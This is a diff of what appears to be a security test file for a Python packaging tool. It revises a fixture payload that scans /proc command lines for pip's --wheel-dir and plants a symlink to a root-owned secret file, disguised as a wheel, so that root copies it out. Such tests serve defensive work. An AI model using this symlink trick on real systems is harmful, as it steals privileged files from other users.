@@ -29,11 +29,16 @@ def build_wheel(directory, *_):
         wheel.writestr("own-1.0.dist-info/RECORD", "")
     return name
 """
-#: Puts a link to a file of root's among the wheels that root copies.
+#: Puts a link to a file of root's among the wheels that root copies, where pip was told to make them.
 LINKS = """
-import glob, os
-(wheels,) = glob.glob(os.environ["HOME"] + "/wheels-*")
-os.symlink("{secret}", wheels + "/stolen-1.0-py3-none-any.whl")
+import contextlib, glob, os
+for path in glob.glob("/proc/[0-9]*/cmdline"):
+    with contextlib.suppress(OSError):
+        words = open(path).read().split(chr(0))
+        wheels = words[words.index("--wheel-dir") + 1] if "--wheel-dir" in words else ""
+        if wheels.startswith(os.environ["HOME"]):
+            os.makedirs(wheels, exist_ok=True)
+            os.symlink("{secret}", wheels + "/stolen-1.0-py3-none-any.whl")
 """
 PROJECT = """
 [project]
